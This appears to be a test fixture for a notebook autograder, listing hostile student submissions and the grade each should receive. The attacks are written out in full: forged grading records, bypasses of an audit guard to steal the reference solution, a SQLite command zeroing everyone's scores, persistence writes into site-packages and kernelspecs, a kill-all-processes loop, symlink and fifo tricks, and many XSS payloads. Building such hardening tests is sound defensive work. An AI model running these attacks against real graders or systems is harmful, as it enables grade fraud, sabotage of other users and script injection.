"""Attacks on the grading design itself, one group per class of the issue "Grading that cannot be cheated".

Each attack is student code that wants marks or harm. Its honest worth is what its functions are
worth without the attack: most pair the attack with the hard-coded worked example (worth nothing on
the hidden cases) or with correct code (full marks, and the attack must damage nobody else).

1. scoring through outputs: leave an execute_result, a number or no error in every test cell;
2. records the judge accepts: forge, empty, shorten or rewire what the kernel records;
3. the in-process guard: switch it off, then reach the reference by routes it never saw;
4. writes: the gradebook, classmates' files, the venv, the shared module, kernelspecs;
5. files in submitted/: symlinks, a fifo, a student folder that is a link, a name with markup;
6. script in what instructors and students open: HTML in markdown, text/html, SVG and JavaScript
   outputs, widget state, an image whose data breaks out of its attribute.
"""
from gallery import FORWARD_HARD_CODED, MAZUR, Member

HARD_CODED_WORTH = ("forward", "total_error", "gradients", "train")  # what the hard-coded forward costs
EVERYTHING = ("forward", "total_error", "output_deltas", "hidden_deltas", "gradients", "update", "train")
MARKER = "PWNED"  # what every script payload would write into the page's title


def with_forward(attack):
    """The attack's code, then the hard-coded worked example as forward."""
    return {"forward": attack + "\n" + FORWARD_HARD_CODED}


# ------------------------------------------------------------------ 1. scoring through outputs

EXECUTE_RESULT_EVERY_CELL = (
    "_ip = get_ipython()\n"
    "_ip.events.register('post_run_cell', lambda result: _ip.displayhook(2))\n"
)
ERRORS_SUPPRESSED = (
    "_ip = get_ipython()\n"
    "_ip.showtraceback = lambda *a, **k: None\n"
    "_ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
)
NUMBER_PUBLISHED = (  # a bare number published as a result of every cell, by the display publisher
    "_ip = get_ipython()\n"
    "def _publish(*a, **k):\n"
    "    _ip.displayhook.write_output_prompt()\n"
    "    _ip.display_pub.publish({'text/plain': '100'})\n"
    "_ip.events.register('pre_run_cell', _publish)\n"
)

# ------------------------------------------------------------------ 2. records the judge accepts

RECORDS_SILENCED = "import autograder.grading as _g\n_g.run = lambda *a, **k: None\n"
RECORDS_EMPTIED = (
    "import autograder.grading as _g\n"
    "_g.plain = lambda value, depth=0: {'__array__': [], 'shape': [8]}\n"
)
RECORDS_SHORTENED = (
    "import autograder.grading as _g\n"
    "_real_call = _g.call\n"
    "_seen = {'n': 0}\n"
    "def _short(function, args):\n"
    "    _seen['n'] += 1\n"
    "    return _real_call(function, args) if _seen['n'] % 24 < 2 else {'result': [], 'after': []}\n"
    "_g.call = _short\n"
)
RECORDS_FORGED = (  # a post_run_cell hook that emits a record of every check claiming every case passed
    "import json\n"
    "from IPython.display import display\n"
    "_names = ['forward', 'total_error', 'output_deltas', 'hidden_deltas', 'gradients_output',\n"
    "          'gradients_hidden', 'gradients_biases', 'update', 'train']\n"
    "def _forge(result):\n"
    "    for _n in _names:\n"
    "        for _outputs in ({'cases': 'all passed'}, {'cases': [{'passed': True}] * 24},\n"
    "                         {'cases': [{'result': {'__array__': [], 'shape': [2]}, 'after': []}] * 24}):\n"
    "            display({'application/x-backprop-lab-hidden+json': json.dumps({'lesson': 'mazur_network', 'check': _n,\n"
    "                     'outputs': _outputs, 'token': 'x'}), 'text/plain': 'ok'}, raw=True)\n"
    "get_ipython().events.register('post_run_cell', _forge)\n"
)
HIDDEN_MODULE_REWIRED = (  # every hidden check module's checks replaced by no-ops, in sys.modules
    "import sys\n"
    "for _name, _module in list(sys.modules.items()):\n"
    "    if _name.startswith('course.') and _name.endswith('.cases'):\n"
    "        for _attr in dir(_module):\n"
    "            if _attr.startswith('check_'):\n"
    "                setattr(_module, _attr, lambda *a, **k: None)\n"
)

# ------------------------------------------------------------------ 3. the in-process guard, and around it

READ_TARGETS = (
    "_targets = []\n"
    "import os\n"
    "for _root in ['/work/main', os.path.expanduser('~'), '/', '..', '../..', '../../..', '../../../..']:\n"
    "    for _rel in ['course/mazur_network/reference.py', 'source/06_mazur_network/mazur_network.ipynb',\n"
    "                 'solutions/06_mazur_network/mazur_network.ipynb']:\n"
    "        _targets.append(os.path.join(_root, _rel))\n"
)
STEAL = (
    "def _steal(text):\n"
    "    if 'def mazur_forward' in text:\n"
    "        _ns = {}\n"
    "        exec(text, _ns)\n"
    "        globals()['forward_stolen'] = _ns['mazur_forward']\n"
)
GUARD_OFF = READ_TARGETS + STEAL + (
    "import autograder.guard as _gd\n"
    "_gd._REFUSED.clear()\n"
    "_gd._PROTECTED = ()\n"
    "_gd._hook.__code__ = (lambda event, args: None).__code__\n"
    "for _t in _targets:\n"
    "    try:\n"
    "        _steal(open(_t).read())\n"
    "    except Exception:\n"
    "        pass\n"
)
FORK_EXEC = READ_TARGETS + STEAL + (  # process creation that raises no audit event
    "import _posixsubprocess, os\n"
    "for _t in _targets:\n"
    "    try:\n"
    "        _r, _w = os.pipe()\n"
    "        _pid = _posixsubprocess.fork_exec([b'/bin/cat', _t.encode()], [b'/bin/cat'], True, (), None, None,\n"
    "                                          -1, -1, -1, _w, -1, -1, _r, _w, True, False, 0, None, None, None, -1, None, False)\n"
    "        os.close(_w)\n"
    "        _steal(os.read(_r, 1 << 20).decode())\n"
    "    except Exception:\n"
    "        pass\n"
)
DIR_FD_AND_SQLITE = READ_TARGETS + STEAL + (  # opens the guard never saw as opens
    "import os, sqlite3\n"
    "for _t in _targets:\n"
    "    try:\n"
    "        _d = os.open(os.path.dirname(_t) or '.', os.O_RDONLY)\n"
    "        _steal(os.read(os.open(os.path.basename(_t), os.O_RDONLY, dir_fd=_d), 1 << 20).decode())\n"
    "    except Exception:\n"
    "        pass\n"
    "for _db in ['../../../gradebook.db', '/work/main/gradebook.db', '../../../../gradebook.db']:\n"
    "    try:\n"
    "        sqlite3.connect(f'file:{_db}?mode=rw', uri=True).execute(\"UPDATE grade SET auto_score = 0\").connection.commit()\n"
    "    except Exception:\n"
    "        pass\n"
)
CTYPES_LIBC = READ_TARGETS + STEAL + (  # libc's system(), and a child interpreter with no guard
    "import ctypes, subprocess, sys\n"
    "try:\n"
    "    ctypes.CDLL('libc.so.6').system(b'cp /work/main/course/mazur_network/reference.py /tmp/ref.py')\n"
    "except Exception:\n"
    "    pass\n"
    "try:\n"
    "    _steal(subprocess.run([sys.executable, '-c', 'import sys; [print(open(t).read()) for t in sys.argv[1:] "
    "if __import__(\"os\").path.exists(t)]', *_targets], capture_output=True, text=True).stdout)\n"
    "except Exception:\n"
    "    pass\n"
)


def stealing(attack):
    """forward = the stolen reference if the attack got it, else the hard-coded worked example."""
    return {"forward": attack + "\n" + FORWARD_HARD_CODED + "\nforward = globals().get('forward_stolen', forward)\n"}


# ------------------------------------------------------------------ 4. writes (paired with correct code: full marks)

WRITES_EVERYWHERE = (
    "import glob, os, site, sys\n"
    "_written = []\n"
    "_paths = ['../../../gradebook.db', '/work/main/gradebook.db', '/work/main/backprop_lab/__init__.py',\n"
    "          os.path.join(os.path.dirname(os.__file__), 'evil.py'), '/opt/backprop-lab/autograder/grading.py',\n"
    "          '/opt/backprop-lab/backprop_lab/__init__.py', '/usr/local/share/jupyter/kernels/python3/kernel.json',\n"
    "          '/tmp/../etc/passwd', '/run/ipc/../../etc/hosts']\n"
    "_paths += [os.path.join(p, 'evil.pth') for p in site.getsitepackages()]\n"
    "_paths += glob.glob('../../*/06_mazur_network/*.ipynb') + glob.glob('/tmp/backprop-lab*/*/work/*.ipynb')\n"
    "_paths += glob.glob(os.path.join(sys.prefix, 'share/jupyter/kernels/*/kernel.json'))\n"
    "for _p in _paths:\n"
    "    try:\n"
    "        with open(_p, 'a') as _f:\n"
    "            _f.write('import os; os.system(\"touch /tmp/owned\")\\n')\n"
    "        _written.append(_p)\n"
    "    except Exception:\n"
    "        pass\n"
)
SIGNALS_EVERYONE = (
    "import os, signal\n"
    "for _pid in range(2, 4096):\n"
    "    if _pid != os.getpid():\n"
    "        try:\n"
    "            os.kill(_pid, signal.SIGKILL)\n"
    "        except Exception:\n"
    "            pass\n"
)

# ------------------------------------------------------------------ 6. script (paired with correct code)

TITLE = f"document.title='{MARKER}'"
JS = f"document.title=/{MARKER}/.source"  # the same script with no quotes, to sit inside Python strings
SCRIPT_OUTPUTS = (
    "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
    f"display(HTML(\"<script>{JS}</script><img src=x onerror=\\\"{JS}\\\">\"))\n"
    f"display(Javascript(\"{JS}\"))\n"
    f"display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{JS}\"><script>{JS}</script></svg>'))\n"
    f"display(Markdown(\"<img src=x onerror=\\\"{JS}\\\"> [x](javascript:{JS})\"))\n"
    f"display({{'image/png': 'x\" onerror=\"{JS}', 'text/plain': 'png'}}, raw=True)\n"
    f"display({{'text/latex': '$\\\\href{{javascript:{JS}}}{{x}}$', 'text/plain': 'tex'}}, raw=True)\n"
    f"display({{'application/vnd.jupyter.widget-view+json': {{'model_id': '\\\"><script>{JS}</script>', 'version_major': 2}},\n"
    "         'text/plain': 'widget'}, raw=True)\n"
)


def add_markdown_payloads(nb):
    """Markdown cells of the student's own, with raw HTML, script links and TeX links; a widget state; attachments."""
    from nbformat.v4 import new_markdown_cell

    payloads = [f"<script>{TITLE}</script>", f"<img src=x onerror=\"{TITLE}\">",
                f"[click](javascript:{TITLE}) [spaced](java\tscript:{TITLE}) <a href='javascript:{TITLE}'>a</a>",
                f"$\\href{{javascript:{TITLE}}}{{click}}$ and <svg onload=\"{TITLE}\"></svg>",
                f"<iframe srcdoc=\"<script>parent.{TITLE}</script>\"></iframe>"]
    for k, text in enumerate(payloads):
        cell = new_markdown_cell(text)
        cell.id = f"student-notes-{k}"
        if k == 0:
            cell.attachments = {"x.svg": {"image/svg+xml": f"<svg onload=\"{TITLE}\"/>"}}
        nb.cells.insert(3 + k, cell)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"x": {"model_name": "HTMLModel", "state": {"value": f"<img src=x onerror=\"{TITLE}\">"}}},
        "version_major": 2, "version_minor": 0}}
    nb.metadata["language_info"] = {"name": f"python\"><script>{TITLE}</script>"}


# ------------------------------------------------------------------ 5. files in submitted/ (made by the gallery test)

def symlink_to(target):
    """files(folder, course): the notebook replaced by a symbolic link to target (relative to the course)."""
    def files(folder, course):
        notebook = next(folder.glob("*.ipynb"))
        notebook.unlink()
        notebook.symlink_to(course / target(course, notebook.name))
    return files


def add_fifo(folder, course):
    import os

    os.mkfifo(folder / "notes.txt")


def shadow_packages(folder, course):
    """course/ and autograder/ of the student's own in the submission: checks that record nothing, a judge-free grading.
    If the kernel imported these instead of the grader's, every check would go unrecorded; it imports the real ones."""
    silent = "".join(f"def check_{name}(function):\n    return None\n" for name in (
        "forward", "total_error", "output_deltas", "hidden_deltas", "gradients_output", "gradients_hidden",
        "gradients_biases", "update", "train"))
    for path, text in {"course/__init__.py": "", "course/mazur_network/__init__.py": "",
                       "course/mazur_network/cases.py": silent, "autograder/__init__.py": "",
                       "autograder/guard.py": "", "autograder/grading.py": "def run(*args):\n    return None\n"}.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)


HOSTILE_ATTACKS = {
    # 1. scoring through outputs
    "execute_result_every_cell": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                                        code=with_forward(EXECUTE_RESULT_EVERY_CELL)),
    "errors_suppressed": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                                code=with_forward(ERRORS_SUPPRESSED)),
    "number_published": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                               code=with_forward(NUMBER_PUBLISHED)),
    # 2. records
    "records_silenced": Member(MAZUR, EVERYTHING, "the hidden tests did not run", code=with_forward(RECORDS_SILENCED)),
    "records_emptied": Member(MAZUR, EVERYTHING, "the hidden tests did not run; a record was refused",
                              code=with_forward(RECORDS_EMPTIED)),
    "records_shortened": Member(MAZUR, EVERYTHING, "returned a sequence of 0 items", code=with_forward(RECORDS_SHORTENED)),
    "records_forged": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed", code=with_forward(RECORDS_FORGED)),
    "hidden_module_rewired": Member(MAZUR, EVERYTHING, "the hidden tests did not run",
                                    code=with_forward(HIDDEN_MODULE_REWIRED)),
    # 3. around the guard
    "guard_switched_off": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed", code=stealing(GUARD_OFF)),
    "fork_exec_cat": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed", code=stealing(FORK_EXEC)),
    "dir_fd_and_sqlite": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                                code=stealing(DIR_FD_AND_SQLITE)),
    "ctypes_and_child_python": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                                      code=stealing(CTYPES_LIBC)),
    # 4. writes and signals, with correct code: full marks, and nobody else is touched
    "writes_everywhere": Member(MAZUR, (), "", prefix={"forward": WRITES_EVERYWHERE}),
    "signals_everyone": Member(MAZUR, (), "", prefix={"forward": SIGNALS_EVERYONE}),
    # 5. files
    "symlink_to_solution": Member(MAZUR, ungradable=True, cause="is a symbolic link",
                                  files=symlink_to(lambda course, name: f"source/{MAZUR}/{name}")),
    "symlink_to_classmate": Member(MAZUR, ungradable=True, cause="is a symbolic link",
                                   files=symlink_to(lambda course, name: f"submitted/m00_correct/{MAZUR}/{name}")),
    "fifo_in_folder": Member(MAZUR, ungradable=True, cause="not a regular file", files=add_fifo),
    "shadow_packages": Member(MAZUR, HARD_CODED_WORTH, "forward: hidden test 1 of 24 failed",
                              code={"forward": FORWARD_HARD_CODED}, files=shadow_packages),
    # 6. script, with correct code: full marks, and nothing runs in any page
    "script_outputs": Member(MAZUR, (), "", prefix={"forward": SCRIPT_OUTPUTS}),
    "script_markdown": Member(MAZUR, (), "", transform=add_markdown_payloads),
}

# students whose very folder is refused: never graded, never in the gradebook (the run names them)
REFUSED = {
    f"m99_<img src=x onerror=\"{TITLE}\">": "not a plain name",
    "m98_folder_is_a_link": "symbolic link",
}
